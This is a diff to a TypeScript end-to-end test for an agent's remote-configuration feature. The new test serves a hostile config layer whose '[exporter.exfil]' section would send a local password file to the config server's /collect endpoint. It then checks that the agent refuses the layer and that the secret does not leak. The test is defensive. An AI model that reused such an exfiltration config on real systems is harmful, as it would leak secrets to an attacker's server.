@@ -1,7 +1,8 @@
 /**
  * [remote_config] end to end: the agent run by its CLI takes its gateway from
  * a layer served over HTTP, follows a change of it, refuses a broken one
- * while it keeps pushing, and starts offline on the cached layer. The
+ * while it keeps pushing, refuses a hostile one that would send a local
+ * secret to the config server, and starts offline on the cached layer. The
  * gateway is a real Debian Pushgateway.
  */
 import { test, before, after } from 'node:test';
@@ -23,6 +24,9 @@ const INSTANCE = 'remote-box';
 let gw: RunningServer;
 let layerServer: Server;
 let layer = '';
+/** Every request the layer server got, as text: a hostile config server also collects what it can. */
+const layerRequests: string[] = [];
+let dir: string;
 let agent: ChildProcess | undefined;
 let agentLog = '';
 let configFile: string;
@@ -54,10 +58,18 @@ async function stopAgent(): Promise<void> {
 before(async () => {
   if (skip) return;
   gw = await startPushgateway();
-  layerServer = createServer((req, res) => res.writeHead(200, { 'content-type': 'text/plain' }).end(layer));
+  layerServer = createServer((req, res) => {
+    let body = '';
+    req.setEncoding('utf8').on('data', (d: string) => (body += d));
+    req.on('end', () => {
+      layerRequests.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
+      if (req.url === '/collect') return void res.writeHead(200, { 'content-type': 'text/plain' }).end('collected 1\n');
+      res.writeHead(200, { 'content-type': 'text/plain' }).end(layer);
+    });
+  });
   layerServer.listen(0, '127.0.0.1');
   await once(layerServer, 'listening');
-  const dir = mkdtempSync(path.join(os.tmpdir(), 'edgepush-remote-config-'));
+  dir = mkdtempSync(path.join(os.tmpdir(), 'edgepush-remote-config-'));
   configFile = path.join(dir, 'edgepush.ini');
   layer = `[pushgateway.central]\nurl = ${gw.url}\ntimeout = 500ms\n`;
   writeFileSync(
@@ -89,6 +101,33 @@ test('a layer that does not load is refused, logged, and the agent keeps pushing
   await waitFor('the refusal in the log', () => /msg=failing .*remote configuration refused, keeping the running one: .*\[pushgateway\.central\] url/.test(agentLog), { timeoutMs: 20_000 });
   await pushedAfter('node', Date.now() / 1000);
   assert.equal((await pushTimes()).has('edgepush'), false, 'still the last applied layer');
+});
+
+/** The agent's count of refused layers, as its self source last pushed it; undefined before a push. */
+async function refusedFetches(): Promise<number | undefined> {
+  const text = await (await fetch(`${gw.url}/metrics`)).text();
+  const line = text.split('\n').find((l) => l.startsWith('edgepush_remote_config_fetches_total{') && l.includes(`instance="${INSTANCE}"`) && l.includes('result="refused"'));
+  return line === undefined ? undefined : Number(line.split(' ').at(-1));
+}
+
+test('a hostile layer that would send a local file to the config server is refused, counted, and the secret goes nowhere', { skip }, async () => {
+  const marker = `marker-${process.pid}-secret`;
+  writeFileSync(path.join(dir, 'secret'), `${marker}\n`);
+  const good = `[pushgateway.central]\nurl = ${gw.url}\ntimeout = 500ms\n`;
+  layer = good;
+  const applied = Date.now() / 1000;
+  await pushedAfter('edgepush', applied);
+  const before = (await refusedFetches()) ?? 0;
+
+  layer = `${good}[exporter.exfil]\nurl = http://127.0.0.1:${(layerServer.address() as AddressInfo).port}/collect\nusername = x\npassword_file = ${path.join(dir, 'secret')}\n`;
+  await waitFor('the refusal in the log', () => /msg=failing .*remote configuration refused, keeping the running one: .*\[exporter\.exfil\] password_file: cannot come from the remote configuration/.test(agentLog), { timeoutMs: 20_000 });
+  await waitFor('the refusal counted and pushed', async () => ((await refusedFetches()) ?? 0) > before, { timeoutMs: 20_000, intervalMs: 200 });
+  await pushedAfter('node', Date.now() / 1000);
+
+  const leaked = (text: string): boolean => text.includes(marker) || text.includes(Buffer.from(`x:${marker}`).toString('base64'));
+  assert.deepEqual(layerRequests.filter((r) => r.startsWith('GET /collect') || leaked(r)), [], 'the config server got no scrape and no secret');
+  assert.equal(leaked(await (await fetch(`${gw.url}/metrics`)).text()), false, 'nor did the gateway');
+  assert.equal(leaked(agentLog), false, 'nor the log');
 });
 
 test('restarted while the URL is down, the agent runs on the cached layer', { skip }, async () => {
